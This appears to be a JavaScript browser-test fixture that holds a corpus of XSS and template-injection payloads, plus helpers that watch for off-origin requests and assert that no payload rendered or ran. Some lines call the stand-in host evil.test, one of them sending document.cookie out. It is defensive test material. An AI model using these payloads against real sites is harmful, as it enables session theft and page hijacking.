// Texts that would run, load or rewrite something if any place took them for more than texts, and
// the watch that tells whether one did.
import assert from 'node:assert/strict';

export const marker = '<img src=x onerror=window.__xss=1>';

export const corpus = [
  // elements
  '<script>window.__xss=1</script>',
  marker,
  '"><svg onload=window.__xss=1>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=window.__xss=1 attributeName=x>',
  '</title><script>window.__xss=1</script>',
  '</textarea><script>alert(1)</script>',
  '</option></select><img src onerror=window.__xss=1>',
  '<iframe srcdoc="<script>parent.__xss=1</script>">',
  '<iframe src=javascript:parent.__xss=1>',
  '<object data=javascript:window.__xss=1>',
  '<embed src=//evil.test/x.svg>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content=0;url=//evil.test/>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import"//evil.test/x";*{background:url(//evil.test/y)}</style>',
  '<form action=//evil.test/><button>Sign in</button></form>',
  '<input autofocus onfocus=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<video><source onerror=window.__xss=1></video>',
  '<audio src onerror=alert(1)>',
  '<body onpageshow=window.__xss=1>',
  '<marquee onstart=window.__xss=1>',
  '<img src="//evil.test/pixel">',
  '<img srcset="//evil.test/pixel 2x">',
  '<b style="position:fixed;inset:0;background:url(//evil.test/z)">',
  '<template><script>window.__xss=1</script></template>',
  '<a href="javascript:window.__xss=1">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<script src=//evil.test/x.js></script>',
  '<script>fetch("//evil.test/"+document.cookie)</script>',
  '<script>console.error("__xss")</script>',
  // parsers that read what another one wrote
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<!--><img src=x onerror=window.__xss=1>-->',
  '<![CDATA[<img src=x onerror=window.__xss=1>]]>',
  '<<script>alert(1)//<</script>',
  '<IMG SRC=x ONERROR=window.__xss=1//',
  '<img/src=`x`/onerror=window.__xss=1>',
  '&lt;img src=x onerror=window.__xss=1&gt;',
  '&#60;script&#62;window.__xss=1&#60;/script&#62;',
  '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
  '\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e',
  '＜script＞window.__xss=1＜/script＞',
  // attributes, scripts, addresses
  "'-window.__xss=1-'",
  '"-alert(1)-"',
  '`-window.__xss=1-`',
  '\\";window.__xss=1;//',
  '" onmouseover=window.__xss=1 x="',
  "' autofocus onfocus=window.__xss=1 x='",
  '</script><script>window.__xss=1</script>',
  '*/window.__xss=1/*',
  'javascript:window.__xss=1',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'expression(window.__xss=1)',
  'red;background:url(//evil.test/c)',
  // what fills in texts
  '{{constructor.constructor("window.__xss=1")()}}',
  '{{count}}',
  '{{label}} {{name}} {{number}} {{what}}',
  '{{- count}} {{count, number}}',
  '$t(common.close)',
  '$t(common.close, { "count": 1 })',
  '${window.__xss=1}',
  '${1+1} #{1+1} <%= 1+1 %> {% raw %}',
  "100 % $& $1 $` $' %s %d",
  '__proto__',
  'constructor',
  // what only looks different
  '\u202ereversed <b>bold</b> &lt;&#60;script&#62;',
  'ze\u200bro \u2066width\u2069 \u0336struck',
];

// All of it in texts of at most `bytes` each.
export function packed(bytes) {
  const out = [''];
  for (const text of corpus) {
    const longer = out.at(-1) === '' ? text : `${out.at(-1)} ${text}`;
    if (Buffer.byteLength(longer) <= bytes) out[out.length - 1] = longer;
    else out.push(text);
  }
  return out;
}

// Sees what the page cannot hide: dialogs, errors and reports are in `problems` already.
export function watch(page, url) {
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    const own = origin === new URL(url).origin || ['data:', 'blob:'].includes(protocol);
    if (!own) page.problems.push(`asked for ${request.url()}`);
  });
  page.on('console', (message) => {
    if (message.text().includes('__xss')) page.problems.push(`wrote ${message.text()}`);
  });
  return page;
}

// Nothing ran, and no element came to be out of the texts.
export async function assertHarmless(page, where) {
  const made = await page.evaluate(() => [...document.querySelectorAll(
    'iframe, math, mglyph, object, embed, base, marquee, svg animate, svg set, [srcdoc], ' +
    'meta[http-equiv=refresh], img[src=""], img[src="x"], [src*="evil.test"], ' +
    '[href*="evil.test"], [href^="javascript:" i], [src^="javascript:" i], [href^="data:text" i]')]
    .concat([...document.querySelectorAll('*')].filter((element) =>
      [...element.attributes].some(({ name }) => name.startsWith('on'))))
    .map((element) => element.outerHTML.slice(0, 200)));
  assert.deepEqual(made, [], where);
  assert.equal(await page.evaluate(() => window.__xss), undefined, where);
  assert.deepEqual(page.problems, [], where);
}

// Texts as the page shows them, sign by sign.
export async function assertShown(page, selector, wanted, where) {
  await page.waitForFunction(([query, count]) =>
    document.querySelectorAll(query).length >= count, [selector, wanted.length]);
  const shown = new Set(await page.locator(selector).allTextContents());
  for (const text of wanted) assert.ok(shown.has(text), `${where}: ${text}`);
}
